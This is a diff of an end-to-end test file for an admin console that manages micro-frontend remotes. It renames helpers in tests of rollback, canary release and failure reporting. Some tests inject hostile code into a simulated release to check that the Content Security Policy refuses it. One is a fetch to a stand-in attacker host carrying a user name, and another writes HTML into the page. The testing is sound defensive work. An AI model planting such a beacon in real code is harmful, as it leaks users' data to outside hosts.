@@ -3,18 +3,18 @@ import { failures, remotes } from '@matchdesk/shared/contract'
 import { admin } from '../../support/api'
 import { axeViolations } from '../../support/axe'
 import { expect, question, toast } from '../../support/console'
-import { intercept, responseOf } from '../../support/endpoint'
+import { intercept, awaitResponse } from '../../support/endpoint'
 import { reason, serverError } from '../../support/faults'
 import { test } from '../../support/servers/ownConsole'
 import { overflow } from '../../support/pages'
 import { nextPoll, pollRegistry } from '../../support/remotes/registry'
-import { pointerOf, releaseCanary, releaseRemote } from './remoteVersion'
+import { readPointer, releaseCanary, releaseRemote } from './remoteVersion'
 
 test.use({ users: 20, settings: { REMOTE_ADMINS: admin.email_id } })
 test.describe.configure({ mode: 'default' })
 
 const table = (page: Page) => page.getByRole('table', { name: 'Remotes' })
-const failuresOf = (page: Page, team: string) => page.getByRole('table', { name: `Failures: ${team}` })
+const getFailureTable = (page: Page, team: string) => page.getByRole('table', { name: `Failures: ${team}` })
 const violations = (page: Page) => page.getByRole('table', { name: 'CSP violations' })
 const remote = (page: Page, name: string) =>
   table(page)
@@ -25,7 +25,7 @@ const inGerman = (code: string) => code.replace('title:"Index"', 'title:"Nr."')
 
 /** Hides the tab, which lets the console tell the server; returns the status of the answer. */
 async function reported(page: Page) {
-  const told = responseOf(page, remotes.report)
+  const told = awaitResponse(page, remotes.report)
   await page.evaluate(() => {
     Object.defineProperty(document, 'visibilityState', { value: 'hidden', configurable: true })
     document.dispatchEvent(new Event('visibilitychange'))
@@ -37,7 +37,7 @@ async function reported(page: Page) {
 const seeFailure = (page: Page, team: string, text: RegExp) =>
   expect(async () => {
     await page.getByRole('button', { name: 'Refresh' }).click()
-    await expect(failuresOf(page, team).getByRole('row').filter({ hasText: text })).toBeVisible({ timeout: 1000 })
+    await expect(getFailureTable(page, team).getByRole('row').filter({ hasText: text })).toBeVisible({ timeout: 1000 })
   }).toPass()
 
 async function confirm(page: Page, change: string, name: string, action = change) {
@@ -81,7 +81,7 @@ test('says what runs here and everywhere, passes axe in light and dark, fits 360
 })
 
 test('takes a bad version back for everybody: the page shows it, and another tab is offered it', async ({ page, open, own, context }) => {
-  const good = pointerOf(own.releases, 'masterdata').current
+  const good = readPointer(own.releases, 'masterdata').current
   const bad = releaseRemote(own.releases, 'masterdata', '1.0.1-bad', inGerman)
   const other = await context.newPage()
   await pollRegistry(other)
@@ -93,7 +93,7 @@ test('takes a bad version back for everybody: the page shows it, and another tab
   await confirm(page, 'Roll back', 'masterdata')
   await expect(toast(page, `masterdata is back at ${good.version}, from ${bad.version}`)).toBeVisible()
   await expect(remote(page, 'masterdata')).not.toContainText(bad.version)
-  expect(pointerOf(own.releases, 'masterdata')).toMatchObject({ current: { version: good.version }, takenBack: [bad.version] })
+  expect(readPointer(own.releases, 'masterdata')).toMatchObject({ current: { version: good.version }, takenBack: [bad.version] })
 
   await nextPoll(other)
   await expect(other.getByText(`A new version is here: masterdata ${good.version}.`)).toBeVisible()
@@ -102,7 +102,7 @@ test('takes a bad version back for everybody: the page shows it, and another tab
 })
 
 test('tries a version out with some, and with nobody any more', async ({ page, open, own }) => {
-  const before = pointerOf(own.releases, 'masterdata').current
+  const before = readPointer(own.releases, 'masterdata').current
   releaseRemote(own.releases, 'masterdata', '1.0.1-tried')
   await open('/remotes')
   await remote(page, 'masterdata').getByRole('button', { name: 'Try out masterdata' }).click()
@@ -110,16 +110,16 @@ test('tries a version out with some, and with nobody any more', async ({ page, o
   await question(page).getByLabel('Percent').fill('25')
   await question(page).getByRole('button', { name: 'Set the canary' }).click()
   await expect(remote(page, 'masterdata')).toContainText(`Canary ${before.version} for 25 %`)
-  expect(pointerOf(own.releases, 'masterdata').canary?.percent).toBe(25)
+  expect(readPointer(own.releases, 'masterdata').canary?.percent).toBe(25)
   await remote(page, 'masterdata').getByRole('button', { name: 'Try out masterdata' }).click()
   await question(page).getByLabel('Percent').fill('0')
   await question(page).getByRole('button', { name: 'Set the canary' }).click()
   await expect(remote(page, 'masterdata')).not.toContainText('Canary')
-  expect(pointerOf(own.releases, 'masterdata').canary).toBeUndefined()
+  expect(readPointer(own.releases, 'masterdata').canary).toBeUndefined()
 })
 
 test('gives a canary to everybody', async ({ page, open, own }) => {
-  const before = pointerOf(own.releases, 'masterdata').current
+  const before = readPointer(own.releases, 'masterdata').current
   const canary = releaseCanary(own.releases, 'masterdata', '1.0.1-canary', inGerman)
   await open('/remotes')
   await expect(remote(page, 'users').getByRole('button', { name: 'Promote users' })).toHaveCount(0)
@@ -127,7 +127,7 @@ test('gives a canary to everybody', async ({ page, open, own }) => {
   await expect(toast(page, `masterdata is ${canary.version} for everybody, instead of ${before.version}`)).toBeVisible()
   await expect(remote(page, 'masterdata')).toContainText(`${canary.version}Before it ${before.version}`)
   await expect(remote(page, 'masterdata')).not.toContainText('Canary')
-  const pointer = pointerOf(own.releases, 'masterdata')
+  const pointer = readPointer(own.releases, 'masterdata')
   expect(pointer).toMatchObject({ enabled: true, current: canary, previous: before })
   expect(pointer.canary).toBeUndefined()
   expect(pointer.served).toEqual(expect.arrayContaining([before.version, canary.version]))
@@ -169,7 +169,7 @@ test.describe('while something fails', () => {
     await page.route(/\/releases\/users\/[^/]+\/remoteEntry/, (route) =>
       route.fulfill({ contentType: 'text/javascript', body: 'window.evil = true' }),
     )
-    const told = responseOf(page, failures.report)
+    const told = awaitResponse(page, failures.report)
     await open('/users/all')
     await expect(page.getByRole('main').getByRole('alert')).toContainText('App Users is not available')
     expect((await told).status()).toBe(200)
@@ -181,7 +181,7 @@ test.describe('while something fails', () => {
   test('the page of remotes names the remote whose file the policy refuses', async ({ page, open, own }) => {
     const leak = 'fetch("https://evil.example/collect?who=ayesha").catch(()=>{});'
     releaseRemote(own.releases, 'payments', '1.0.1-leaking', (code) => leak + code)
-    const told = responseOf(page, remotes.report)
+    const told = awaitResponse(page, remotes.report)
     await open('/payment/details')
     await expect(page.getByRole('table', { name: 'Bank accounts' })).toBeVisible()
     expect((await told).status()).toBe(200)
@@ -194,7 +194,7 @@ test.describe('while something fails', () => {
   test('the page of remotes names the remote whose text the browser refuses as HTML', async ({ page, open, own }) => {
     const careless = 'try{document.body.insertAdjacentHTML("beforeend","<img id=written>")}catch{};'
     releaseRemote(own.releases, 'payments', '1.0.1-careless', (code) => careless + code)
-    const told = responseOf(page, remotes.report)
+    const told = awaitResponse(page, remotes.report)
     await open('/payment/details')
     await expect(page.getByRole('table', { name: 'Bank accounts' })).toBeVisible()
     await expect(page.locator('#written')).toHaveCount(0)
